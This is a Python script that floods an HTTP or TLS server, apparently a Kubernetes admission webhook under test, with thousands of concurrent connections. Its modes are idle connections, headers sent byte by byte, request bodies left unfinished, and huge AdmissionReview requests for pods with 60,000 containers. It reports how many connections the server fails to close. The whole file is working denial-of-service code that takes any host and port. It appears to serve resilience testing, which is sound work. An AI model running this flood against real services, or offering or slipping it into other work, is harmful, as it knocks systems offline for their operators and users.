"""Attacks a server with many unfinished requests or with costly requests.

It uses the standard library only, so that it runs in any pod that has Python:
`python3 flood.py HOST PORT ATTACK CONNECTIONS SECONDS [SOURCE]`. At the end it prints a line of JSON: the connections
opened and closed, those that the server left open afterwards, the longest time that one was open, and the answers by
HTTP status.
"""

from __future__ import annotations

import asyncio
import json
import logging
import socket
import ssl
import sys
import time
from asyncio.sslproto import SSLProtocol
from collections import Counter
from contextlib import suppress
from functools import cache
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

ANNOUNCED: Final = 8_388_000
CONTAINERS: Final = 60_000
AGAIN: Final = 0.5
"""Seconds until a closed connection is opened again."""
TIMEOUT: Final = 15.0
"""Seconds without a closed connection after which the server closes no more: longer than it grants any of them."""
DRIP: Final = 0.3
"""Seconds between two bytes of a header."""

# Thousands of connections must fit into a small pod too.
SSLProtocol.max_size = 16 * 1024

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Flood:
    """One kind of attack over many connections at once."""

    def __init__(self, host: str, port: int, attack: str, source: str | None) -> None:
        """`source` is the local address of the connections."""
        self._host = host
        self._port = port
        self._source = source
        self._act = ATTACKS[attack]
        self._tls: ssl.SSLContext | None = None
        if attack not in PLAIN:
            self._tls = ssl.create_default_context()
            self._tls.check_hostname = False
            self._tls.verify_mode = ssl.CERT_NONE
        self.counts: Counter[str] = Counter()
        self.longest = 0.0
        self._open = 0
        self._ending = False

    async def run(self, connections: int, seconds: float) -> None:
        """Attack for `seconds`. Then count the connections that the server does not close.

        One that is being opened does not count: while a server's queue is full, a kernel tries again for half a minute.
        """
        tasks = [asyncio.create_task(self._keep_one()) for _ in range(connections)]
        # The scenario: how long the attack lasts.
        await asyncio.sleep(seconds)
        self._ending = True
        left, closed = set(tasks), -1
        while left and closed != self.counts["closed"]:
            closed = self.counts["closed"]
            _, left = await asyncio.wait(left, timeout=TIMEOUT)
        self.counts["left"] = self._open
        for task in left:
            task.cancel()
        await asyncio.gather(*left, return_exceptions=True)

    async def _keep_one(self) -> None:
        while not self._ending:
            began = time.monotonic()
            with suppress(OSError, asyncio.IncompleteReadError):
                local = (self._source, 0) if self._source else None
                streams = await asyncio.open_connection(
                    self._host, self._port, ssl=self._tls, local_addr=local, limit=2**14
                )
                self.counts["opened"] += 1
                self._open += 1
                began = time.monotonic()
                try:
                    if not self._ending:
                        await self._act(self, streams)
                finally:
                    self._open -= 1
                    streams[1].transport.abort()
            self.counts["closed"] += 1
            self.longest = max(self.longest, time.monotonic() - began)
            # The attacker's own pause.
            await asyncio.sleep(AGAIN)

    async def idle(self, streams: Streams) -> None:
        """Send nothing."""
        await streams[0].read(1)

    async def body(self, streams: Streams) -> None:
        """Send most of a request body, then nothing."""
        head = f"POST /mutate HTTP/1.1\r\nHost: webhook\r\nContent-Length: {ANNOUNCED}\r\n\r\n"
        streams[1].write(head.encode())
        for _ in range(126):
            streams[1].write(b" " * 65536)
            await streams[1].drain()
        await streams[0].read(1)

    async def header(self, streams: Streams) -> None:
        """Send a header byte by byte."""
        streams[1].write(b"POST /mutate HTTP/1.1\r\nHost: webhook\r\nX-Slow: ")
        while not streams[0].at_eof():
            streams[1].write(b"x")
            await streams[1].drain()
            with suppress(TimeoutError):
                async with asyncio.timeout(DRIP):
                    await streams[0].read(1)

    async def large_body(self, streams: Streams) -> None:
        """Ask for reviews of pods with thousands of containers, one after the other."""
        while not self._ending:
            streams[1].write(_large_body())
            await streams[1].drain()
            began = time.monotonic()
            head = await streams[0].readuntil(b"\r\n\r\n")
            length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            await streams[0].readexactly(length)
            self.counts[f"status {head.split()[1].decode()}"] += 1
            self.longest = max(self.longest, time.monotonic() - began)


PLAIN: Final = frozenset({"silent", "plain-headers"})
"""Attacks without TLS."""
ATTACKS: Final[dict[str, Callable[[Flood, Streams], Awaitable[None]]]] = {
    "silent": Flood.idle,
    "idle": Flood.idle,
    "bodies": Flood.body,
    "headers": Flood.header,
    "plain-headers": Flood.header,
    "giants": Flood.large_body,
}


@cache
def _large_body() -> bytes:
    pod = {
        "metadata": {"name": "giant-0", "annotations": {"gpu-scheduling-map": "0=node1:0\n"}},
        "spec": {
            "schedulerName": "gpu-scheduler",
            "containers": [{"name": f"c{number}", "image": "none"} for number in range(CONTAINERS)],
        },
    }
    about = {"uid": "giant", "kind": {"kind": "Pod"}, "operation": "CREATE", "namespace": "default", "object": pod}
    body = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": about}).encode()
    return f"POST /mutate HTTP/1.1\r\nHost: webhook\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def main() -> None:
    """Attack as the arguments say."""
    # asyncio logs each lost connection.
    logging.disable()
    host, port, attack, connections, seconds, *source = sys.argv[1:]
    flood = Flood(socket.gethostbyname(host), int(port), attack, source[0] if source else None)
    asyncio.run(flood.run(int(connections), float(seconds)))
    print(json.dumps({"attack": attack, **flood.counts, "longest": round(flood.longest, 1)}))  # noqa: T201 - its answer


if __name__ == "__main__":
    main()
